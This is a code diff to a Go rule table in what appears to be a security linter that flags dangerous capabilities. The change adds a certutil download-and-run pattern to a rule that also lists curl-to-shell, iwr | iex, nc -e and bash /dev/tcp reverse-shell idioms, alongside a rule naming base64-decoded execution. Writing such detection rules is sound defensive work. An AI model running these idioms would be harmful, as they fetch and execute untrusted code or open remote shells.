@@ -83,7 +83,7 @@ var ruleTable = []registry.Rule{
 		"[capabilities] declares exec = \"full\" but the wiring shows no subprocess use.",
 		"Declare an explicit list of binaries, or exec = \"none\"."),
 	rule(CodePipeToShell, registry.LevelDanger, true,
-		"Downloaded or generated text is executed by a shell or interpreter (curl … | sh, sh <(curl …), python <(curl …), node -e \"$(curl …)\", eval \"$(curl …)\", a file a download tool wrote run as a program, a script or a package to install: curl -o f URL && sh f, wget URL && ./f, iwr -OutFile a.msi; msiexec /i a.msi, curl … | source /dev/stdin, curl … | xargs sh -c, iwr … | iex, cmd's for /f %i in ('curl …') do %i), or a network connection is handed to one (nc -e /bin/sh, socat … EXEC:sh, bash -i >& /dev/tcp/HOST/PORT 0>&1, a PowerShell TCPClient whose text runs through iex).",
+		"Downloaded or generated text is executed by a shell or interpreter (curl … | sh, sh <(curl …), python <(curl …), node -e \"$(curl …)\", eval \"$(curl …)\", a file a download tool wrote run as a program, a script or a package to install: curl -o f URL && sh f, wget URL && ./f, iwr -OutFile a.msi; msiexec /i a.msi, certutil -urlcache -f URL a.exe && a.exe, curl … | source /dev/stdin, curl … | xargs sh -c, iwr … | iex, cmd's for /f %i in ('curl …') do %i), or a network connection is handed to one (nc -e /bin/sh, socat … EXEC:sh, bash -i >& /dev/tcp/HOST/PORT 0>&1, a PowerShell TCPClient whose text runs through iex).",
 		"Install a pinned, checksummed package instead of executing fetched text."),
 	rule(CodeObfuscatedExec, registry.LevelDanger, true,
 		"Encoded text is decoded and executed (base64 -d | sh, powershell -EncodedCommand, exec(b64decode(…)), a base64 data: URL module).",
